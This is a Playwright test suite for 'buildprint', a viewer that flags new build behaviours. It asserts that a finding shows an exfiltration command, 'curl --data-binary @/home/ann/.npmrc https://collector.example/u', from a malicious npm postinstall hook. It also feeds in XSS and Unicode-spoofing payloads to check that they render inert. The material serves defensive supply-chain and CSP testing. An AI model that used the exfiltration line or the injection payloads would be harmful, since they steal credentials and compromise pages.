// Drives sample pages in a real Chromium. Each test can fail alone; none needs the network.
import assert from "node:assert/strict";
import { readFileSync, statSync } from "node:fs";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { chromium } from "playwright-core";

const megabyte = 1_000_000;
let browser;

before(async () => {
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM,
    args: process.getuid() === 0 ? ["--no-sandbox"] : [], // root may not use Chromium's sandbox
  });
});
after(() => browser.close());

/// Opens pages/NAME.html; whatever it says on the console or asks of the network is kept in page.said.
async function open(name, options = {}, id = "") {
  const page = await browser.newPage({ viewport: { width: 1366, height: 768 }, ...options });
  page.said = [];
  page.on("console", (message) => page.said.push(`${message.type()}: ${message.text()}`));
  page.on("pageerror", (error) => page.said.push(`error: ${error}`));
  page.on("request", (request) => {
    if (!request.url().startsWith("file:") || !request.isNavigationRequest())
      page.said.push(`request: ${request.url()}`);
  });
  await page.goto(pathToFileURL(`pages/${name}.html`).href + id);
  await page.waitForSelector("html[data-ready]", { timeout: 10_000 });
  return page;
}

const lines = (page) => page.locator("[role=treeitem] .what").allInnerTexts();
const matched = async (page) => (await page.locator(".matched").innerText()).replace(/\s+/g, " ");
const chosen = (page) => page.locator("[role=treeitem][aria-selected=true] .what").innerText();
const search = (page, text) => page.fill("input[type=search]", text);
const tree_text = async (page) => (await lines(page)).join("\n");

async function quiet(page) {
  assert.deepEqual(page.said, []);
  await page.close();
}

test("a diff says first what is new, who did it, why and what to do", async () => {
  const page = await open("diff");
  assert.equal(await page.title(), "unit-tests · buildprint");
  assert.equal(await page.locator("h1").innerText(), "8 new behaviors in 2 findings");
  const first = page.locator(".finding").first();
  const text = (await first.innerText()).replace(/\s+/g, " ");
  for (const part of [
    "21",
    "error",
    "left-pad",
    "1.3.0 → 1.3.1",
    "postinstall",
    "package-lock.json:4120",
    "first network connection of the npm lineage",
    "a secret is read and a new connection made",
    "buildprint accept 7c2a91d04be8 --reason",
  ])
    assert.ok(text.includes(part), `${part} in ${text}`);
  const steps = (await first.locator(".step-line").allInnerTexts()).map((step) => step.replace(/\s+/g, " "));
  assert.match(steps[0], /^\/usr\/bin\/make/);
  assert.match(steps[4], /curl.*new together/);
  assert.match(steps[6], /connects to.*collector\.example:443\/tcp.*never seen/);
  const box = await first.boundingBox();
  assert.ok(box.y + box.height <= 768, "the whole first finding is on the first screen of a laptop");
  await quiet(page);
});

test("a finding unfolds its other lines, raw values and rules", async () => {
  const page = await open("diff");
  const first = page.locator(".finding").first();
  await first.getByText("3 more lines of this finding").click();
  assert.equal(await first.locator(".step.act").count(), 6);
  await first.getByText("raw values and rules").click();
  const text = await first.innerText();
  assert.ok(text.includes("curl -fsSL --data-binary @/home/ann/.npmrc https://collector.example/u"));
  assert.ok(text.includes("R9") && text.includes("203.0.113.66:443"));
  await quiet(page);
});

test("a click in a finding shows its line in the tree, whatever is filtered", async () => {
  const page = await open("large-diff");
  await search(page, "no such thing");
  await page.locator(".finding .step-line", { hasText: "collector.example:443" }).click();
  assert.match(await chosen(page), /connects to.*collector\.example:443/s);
  await page.locator(".finding .step-line", { hasText: "curl" }).first().click();
  assert.match(await chosen(page), /curl/);
  await quiet(page);
});

test("a link with an id opens the page at that line", async () => {
  const page = await open("large-diff", {}, "#7c2a91d04be8");
  assert.match(await chosen(page), /curl/);
  await quiet(page);
});

test("before, after and both show each its side", async () => {
  const page = await open("diff");
  const side = (name) =>
    page.getByRole("group", { name: "Which side" }).getByText(name, { exact: true }).click();
  const has = async (name) => {
    await search(page, name);
    return (await tree_text(page)).includes(name);
  };
  assert.ok((await has("tar")) && (await has("collector.example")));
  await side("before");
  assert.ok((await has("tar")) && !(await has("collector.example")));
  await side("after");
  assert.ok(!(await has("/usr/bin/tar")) && (await has("collector.example")));
  await quiet(page);
});

test("only new leaves the new lines and their ancestors", async () => {
  const page = await open("large-diff");
  await page.getByLabel("only new").check();
  assert.match(await matched(page), /^8 of 5,\d+ behaviors/);
  const shown = await tree_text(page);
  assert.ok(shown.includes("curl") && shown.includes("strip") && !shown.includes("pytest"));
  await quiet(page);
});

test("what fails nothing is folded, and unfolds", async () => {
  const page = await open("diff");
  const folded = page.locator(".folded");
  assert.ok(!(await folded.innerText()).includes("the mirror moved"));
  for (const summary of await folded.locator("summary").all()) await summary.click();
  const text = await folded.innerText();
  for (const part of [
    "the mirror moved to a host of its own",
    "accepted by the change under test itself",
    "gcc 12.2.0 → 12.3.0",
    "was under",
    "tar",
    "1 acceptance was never used",
  ])
    assert.ok(text.includes(part), part);
  await quiet(page);
});

test("a diff without the two fingerprints still draws what it tells", async () => {
  const page = await open("partial-diff");
  assert.ok((await tree_text(page)).includes("collector.example:443/tcp"));
  await quiet(page);
});

test("users, destinations and kinds are filters, alone and together", async () => {
  const page = await open("run");
  const choice = (facet, name) => page.locator(`.by-${facet} .choice`, { hasText: name }).first().click();
  await choice("user", "root");
  assert.match(await matched(page), /^2 of /);
  assert.ok((await tree_text(page)).includes("dpkg"));
  await choice("user", "root");
  await choice("destination", "registry.example");
  assert.match(await matched(page), /^2 of /); // the connection and the look-up
  await choice("kind", "resolve");
  assert.match(await matched(page), /^1 of /);
  assert.match(await tree_text(page), /asks for\s+registry\.example/);
  await page.keyboard.press("Escape");
  assert.match(await matched(page), /^\d+ behaviors/);
  await quiet(page);
});

test("search finds programs, objects and raw values", async () => {
  const page = await open("run");
  for (const [text, found] of [
    ["generate_3.py", "generate_3.py"],
    ["prebuilt-7.example", "native-7"],
    ["ccJ8s2kQ", "$TMP"],
    ["npm write", "$CACHE/npm"],
  ]) {
    await search(page, text);
    assert.ok((await tree_text(page)).includes(found), `${text} finds ${found}`);
  }
  await search(page, "no such thing");
  assert.equal((await lines(page)).length, 0);
  assert.match(await page.locator(".lines").innerText(), /Nothing matches/);
  await quiet(page);
});

test("a click shows the lineage, the raw value and the rules that rewrote it", async () => {
  const page = await open("run");
  await search(page, "registry.example:443");
  await page.locator("[role=treeitem]", { hasText: "registry.example:443/tcp" }).click();
  const detail = await page.locator(".detail").innerText();
  for (const part of ["/usr/bin/make", "npm install", "203.0.113.20:443", "R9", "12 times", "in 3 of 3 runs"])
    assert.ok(detail.includes(part), part);
  await quiet(page);
});

test("the keyboard alone reads the tree", async () => {
  const page = await open("run");
  const press = async (...keys) => {
    for (const key of keys) await page.keyboard.press(key);
  };
  await press("/");
  await page.keyboard.type("gcc");
  await press("ArrowDown", "Home");
  assert.match(await chosen(page), /make/);
  await press("ArrowDown", "ArrowDown");
  assert.match(await chosen(page), /gcc/);
  const open_lines = (await lines(page)).length;
  await press("ArrowLeft");
  assert.ok((await lines(page)).length < open_lines);
  await press("ArrowRight", "ArrowRight");
  assert.equal((await lines(page)).length, open_lines);
  const active = await page.locator("[role=tree]").getAttribute("aria-activedescendant");
  assert.equal(await page.locator(`#${active}`).getAttribute("aria-selected"), "true");
  assert.equal(
    await page.locator(`#${active}`).getAttribute("aria-label"),
    await page.locator(`#${active} .program`).getAttribute("title"),
  );
  await press("ArrowLeft");
  assert.match(await chosen(page), /gcc/);
  await press("Escape", "End");
  assert.match(await chosen(page), /dpkg/);
  await quiet(page);
});

test("n and p walk the new lines", async () => {
  const page = await open("large-diff");
  await page.keyboard.press("n");
  assert.match(await chosen(page), /curl/);
  await page.keyboard.press("n");
  assert.match(await chosen(page), /new/);
  await page.keyboard.press("p");
  await page.keyboard.press("p");
  assert.match(await chosen(page), /strip/);
  assert.ok(await page.locator("[role=treeitem][aria-selected=true]").isVisible());
  await quiet(page);
});

test("a part of the time narrows the tree and its lanes, and Escape shows all again", async () => {
  const page = await open("run");
  const matched = () => page.locator(".matched").innerText();
  const axis = () => page.locator(".axis .tick").allInnerTexts();
  const [all, whole] = [await matched(), await axis()];
  assert.equal(whole[0], "0");
  const canvas = page.locator("canvas");
  await canvas.focus();
  for (let i = 0; i < 3; ++i) await page.keyboard.press("+");
  assert.match(await matched(), /^\d+ of \d+ behaviors/);
  assert.notDeepEqual(await axis(), whole);
  for (const bar of await page.locator(".line .lane .bar").evaluateAll((bars) => bars.map((b) => b.style.left)))
    assert.ok(parseFloat(bar) >= 0 && parseFloat(bar) <= 100, bar);
  await page.keyboard.press("Escape");
  assert.equal(await matched(), all);
  assert.deepEqual(await axis(), whole);
  await quiet(page);
});

test("the time of a run is looked at closer by mouse, buttons and keys, and all of it again", async () => {
  const page = await open("run");
  const shown = () => page.locator(".time-window [role=status]").innerText();
  const whole = await shown();
  assert.match(whole, /^0 .* – /);
  const canvas = page.locator("canvas");
  const box = await canvas.boundingBox();
  await page.mouse.move(box.x + box.width * 0.25, box.y + 20);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.5, box.y + 20, { steps: 4 });
  await page.mouse.up();
  const dragged = await shown();
  assert.notEqual(dragged, whole);
  await page.getByRole("button", { name: "Later" }).click();
  assert.notEqual(await shown(), dragged);
  await page.getByRole("button", { name: "whole run" }).click();
  assert.equal(await shown(), whole);
  await canvas.focus();
  await page.keyboard.press("+");
  assert.notEqual(await shown(), whole);
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("-");
  assert.equal(await shown(), whole);
  await canvas.dblclick({ position: { x: 8, y: 4 } });
  assert.ok((await page.locator(".detail h3").innerText()).length > 0);
  await quiet(page);
});

test("the overview chooses what is clicked", async () => {
  const page = await open("diff");
  await page.locator("canvas").click({ position: { x: 5, y: 5 } });
  assert.match(await page.locator(".detail h3").innerText(), /make/);
  await page.locator("canvas").dblclick({ position: { x: 60, y: 37 } });
  assert.match(await page.locator(".crumbs").innerText(), /whole run.*make.*sh -c/s);
  await quiet(page);
});

test("dark and light follow the system, and the toggle", async () => {
  const background = (page) =>
    page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  const dark = await open("run", { colorScheme: "dark" });
  const light = await open("run", { colorScheme: "light" });
  const [is_dark, is_light] = [await background(dark), await background(light)];
  assert.notEqual(is_dark, is_light);
  await light.keyboard.press("t");
  assert.equal(await background(light), is_dark);
  await light.reload();
  assert.equal(await background(light), is_dark, "the choice is kept");
  await quiet(dark);
  await quiet(light);
});

for (const [width, height] of [
  [1280, 720],
  [1024, 768],
  [700, 900],
]) {
  test(`nothing spills at ${width}×${height}`, async () => {
    for (const name of ["run", "diff", "hostile-run", "hostile-diff"]) {
      const page = await open(name, { viewport: { width, height } });
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), name);
      await quiet(page);
    }
  });
}

test("the policy blocks scripts, handlers, eval, styles and every load", async () => {
  const page = await open("run");
  const blocked = await page.evaluate(async () => {
    const seen = new Set();
    document.addEventListener("securitypolicyviolation", (event) => seen.add(event.effectiveDirective));
    const attempt = (act) => {
      try {
        act();
        return "ran";
      } catch {
        return "threw";
      }
    };
    const inject = (tag, set) => {
      const element = document.createElement(tag);
      set(element);
      document.body.append(element);
    };
    attempt(() => inject("script", (e) => e.append("document.documentElement.dataset.broken = 1")));
    attempt(() =>
      inject("img", (e) => {
        e.src = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
      }),
    );
    attempt(() =>
      inject("div", (e) => e.setAttribute("onclick", "document.documentElement.dataset.broken = 1")),
    );
    document.body.lastElementChild.click?.();
    inject("style", (e) => e.append("body { display: none }"));
    inject("iframe", (e) => {
      e.src = "data:text/html,x";
    });
    // The debugger's own evaluation is exempt from the ban on eval; what a timer runs is not.
    await new Promise((done) => setTimeout(done, 50));
    const results = {
      eval: attempt(() => Function("document.documentElement.dataset.broken = 1")()),
      html: attempt(() => {
        document.body.innerHTML = "<b>x</b>";
      }),
      fetch: await fetch("http://127.0.0.1:9/").then(
        () => "ran",
        () => "threw",
      ),
    };
    await new Promise((done) => setTimeout(done, 200));
    return {
      results,
      seen: [...seen].sort(),
      broken: document.documentElement.dataset.broken,
      display: getComputedStyle(document.body).display,
    };
  });
  assert.equal(blocked.broken, undefined);
  assert.equal(blocked.display, "block");
  assert.deepEqual(blocked.results, { eval: "threw", html: "threw", fetch: "threw" });
  for (const directive of ["connect-src", "frame-src", "img-src", "style-src-elem"])
    assert.ok(blocked.seen.includes(directive), `${directive} in ${blocked.seen}`);
  await page.close();
});

for (const name of ["hostile-run", "hostile-diff"]) {
  test(`${name}: names stay text, whatever is opened`, async () => {
    const page = await open(name);
    await page.getByText("unfold all").click();
    for (const summary of await page.locator("main summary").all()) await summary.click();
    for (const link of await page.locator(".finding .link").all()) await link.click();
    await page.locator("[role=tree]").focus();
    await page.keyboard.press("Home");
    for (let i = 0; i < 60; ++i) await page.keyboard.press("ArrowDown");
    const state = await page.evaluate(() => ({
      broken: document.documentElement.dataset.broken,
      elements: document.querySelectorAll("img, iframe, #escaped, main script, [onfocus], [onerror]").length,
      text: document.body.innerText,
      title: document.title,
    }));
    assert.equal(state.broken, undefined);
    assert.equal(state.elements, 0);
    for (const part of [
      "<img src=x onerror=",
      "evil\\u{202e}txt.exe",
      "invalid\\xff",
      "\\x1b[31mred",
      "&lt;script&gt;",
    ])
      assert.ok(state.text.includes(part), part);
    assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u001b]/.test(state.text));
    assert.ok(state.title.startsWith("</script><script>"));
    await quiet(page);
  });
}

for (const name of ["large-run", "large-diff"]) {
  test(`${name}: 5,000 behaviors are at most 3 MB and there within a second`, async (context) => {
    const size = statSync(`pages/${name}.html`).size;
    assert.ok(size <= 3 * megabyte, `${size} bytes`);
    let best = Infinity;
    for (let i = 0; i < 3; ++i) {
      const page = await open(name);
      const painted = await page.evaluate(
        () => new Promise((done) => requestAnimationFrame(() => setTimeout(() => done(performance.now())))),
      );
      const ready = Number(await page.locator("html").getAttribute("data-ready"));
      const first = await page.evaluate(
        () => performance.getEntriesByName("first-contentful-paint")[0]?.startTime ?? 0,
      );
      best = Math.min(best, Math.max(ready, first));
      assert.ok(painted > 0);
      await quiet(page);
    }
    context.diagnostic(`${(size / megabyte).toFixed(2)} MB, drawn after ${best.toFixed(0)} ms`);
    assert.ok(best <= 1000, `${best} ms`);
  });
}

test("5,000 behaviors: few elements, quick filters, every line within reach", async (context) => {
  const page = await open("large-run");
  await page.getByText("unfold all").click();
  assert.ok((await page.evaluate(() => document.querySelectorAll("*").length)) < 2500);
  await page.locator("[role=tree]").focus();
  await page.keyboard.press("End");
  assert.match(await chosen(page), /dpkg/);
  assert.ok(await page.locator("[role=treeitem][aria-selected=true]").isVisible());
  const took = await page.evaluate(async () => {
    const input = document.querySelector("input[type=search]");
    const begin = performance.now();
    input.value = "prebuilt-3";
    input.dispatchEvent(new Event("input", { bubbles: true }));
    await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
    return performance.now() - begin;
  });
  context.diagnostic(`a search took ${took.toFixed(0)} ms`);
  assert.ok(took < 500, `${took} ms`);
  await quiet(page);
});

for (const [name, label] of [
  ["run", "/usr/bin/make"],
  ["large", "more links"],
  ["hostile", "script"],
])
  test(`mermaid itself draws the ${name} graph, and its names stay text`, async () => {
    const page = await browser.newPage();
    const said = [];
    page.on("dialog", (dialog) => said.push(dialog.message()) && dialog.dismiss());
    page.on("request", (request) => said.push(request.url()));
    await page.setContent("<!doctype html><div id=here></div>");
    await page.addScriptTag({ path: "node_modules/mermaid/dist/mermaid.min.js" });
    const drawn = await page.evaluate(async (text) => {
      globalThis.mermaid.initialize({ startOnLoad: false });
      const { svg } = await globalThis.mermaid.render("graph", text);
      const here = document.getElementById("here");
      here.innerHTML = svg;
      return { text: here.textContent, active: here.querySelectorAll("script, img, iframe, a[href]").length };
    }, readFileSync(`pages/${name}.mermaid`, "utf8"));
    assert.ok(drawn.text.includes(label), drawn.text.slice(0, 300));
    assert.ok(!drawn.text.includes("Syntax error"));
    assert.equal(drawn.active, 0);
    assert.deepEqual(said, []);
    await page.close();
  });
